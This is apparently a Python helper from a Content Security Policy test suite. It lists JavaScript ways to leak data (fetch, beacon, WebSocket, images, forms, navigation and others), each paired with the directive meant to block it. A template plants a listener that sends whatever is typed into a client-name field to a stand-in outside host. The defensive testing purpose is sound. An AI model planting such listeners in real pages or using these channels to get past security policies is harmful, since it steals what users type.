"""Ways for a script to send out what somebody types: planted into a sheet, to see them fail.

Each is JavaScript; ``there`` is the address to send to, with the secret in it. Both
addresses are tried: the page's own server and another.
"""

from __future__ import annotations

#: By name: the script, and the directive that refuses it; None where no event tells of it.
LEAKS: dict[str, tuple[str, str | None]] = {
    "fetch": ("fetch(there, {mode: 'no-cors'})", "connect-src"),
    "xhr": ("const x = new XMLHttpRequest(); x.open('GET', there); x.send()", "connect-src"),
    "beacon": ("navigator.sendBeacon(there, secret)", "connect-src"),
    "websocket": ("new WebSocket(there.replace('http', 'ws'))", "connect-src"),
    "event source": ("new EventSource(there)", "connect-src"),
    "image": ("new Image().src = there", "img-src"),
    "background": ("document.body.style.backgroundImage = `url('${there}')`", "img-src"),
    "style sheet": ("add('link', {rel: 'stylesheet', href: there})", "style-src-elem"),
    "prefetch": ("add('link', {rel: 'prefetch', href: there})", "default-src"),
    "preload": ("add('link', {rel: 'preload', as: 'image', href: there})", "img-src"),
    "module": ("import(there)", "script-src-elem"),
    "script": ("add('script', {src: there})", "require-trusted-types-for"),
    "worker": ("new Worker(there)", "require-trusted-types-for"),
    "frame": ("add('iframe', {src: there})", "frame-src"),
    "object": ("add('object', {data: there})", "require-trusted-types-for"),
    "video": ("add('video', {src: there})", "media-src"),
    "font": ("new FontFace('x', `url('${there}')`).load()", "font-src"),
    "ping": ("add('a', {ping: there, href: '#x'}).click()", "connect-src"),
    "form": ("add('form', {action: there, method: 'post'}).submit()", None),
    "window": ("window.open(there)", None),
    "navigation": ("location.href = there", None),
    "click": ("add('a', {href: there}).click()", None),
    "download": ("add('a', {href: there, download: 'x'}).click()", None),
}

_PLANTED = """
document.addEventListener("securitypolicyviolation", (event) => {
  document.body.dataset.refused = event.effectiveDirective;
});
const add = (name, attributes) => {
  const made = Object.assign(document.createElement(name), attributes);
  document.body.append(made);
  return made;
};
document.getElementById("client-naam").addEventListener("input", (event) => {
  const secret = event.target.value;
  for (const there of [`http://elders.example/gelekt?${secret}`, `${origin}/gelekt?${secret}`]) {
    try {
      %s;
    } catch (error) {
      console.info(error);
    }
  }
  document.body.dataset.tried = "yes";
});
"""


def planted(script: str, name: str) -> str:
    """Return *script* with a leak planted in it."""
    return script + _PLANTED % LEAKS[name][0]
